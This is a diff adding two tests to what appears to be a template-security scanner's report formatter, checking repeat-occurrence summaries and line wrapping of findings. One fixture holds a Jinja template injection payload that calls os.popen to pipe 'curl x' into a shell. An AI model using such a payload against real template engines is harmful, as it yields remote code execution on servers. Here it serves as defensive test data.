@@ -261,3 +261,25 @@ def test_any_report_has_pages(report: Report, width: int) -> None:
             verdict = verdicts.get(finding.fingerprint, Verdict(finding.fingerprint, "review"))
             for line in evidence_lines(finding, verdict, width, None, target.obligations):
                 assert plain(line).isprintable() and columns(plain(line)) <= max(width, NARROW)
+
+
+def test_where_it_was_seen_again_is_told() -> None:
+    def seen(count: int, *related: Place) -> str:
+        one = call("posix.system", "'true'")
+        lines = told(replace(one, place=Place("a.jinja", line=2), count=count, related=related), 120).splitlines()
+        return next((line for line in lines if line.startswith("seen")), "").partition("seen")[2].strip()
+
+    assert seen(1) == ""
+    assert seen(2) == "2 times: first there"
+    assert seen(2, Place("a.jinja", line=9)) == "2 times: first there, then at line 9"
+    assert seen(3, Place("b.jinja", line=9)) == "3 times: first there, and in other places below"
+    many = tuple(Place("a.jinja", line=line) for line in range(3, 30))
+    assert seen(1000, *many) == "1,000 times: first there, then at line 3, line 4, line 5, line 6 and 995 more"
+
+
+def test_a_line_of_a_page_ends_behind_a_word_or_the_part_of_a_name() -> None:
+    one = replace(
+        call("posix.system", "'true'"),
+        excerpt=(">     @749  {{ cycler.__init__.__globals__.os.popen('curl x | sh') }}",),
+    )
+    assert "popen('curl" in told(one, 60)
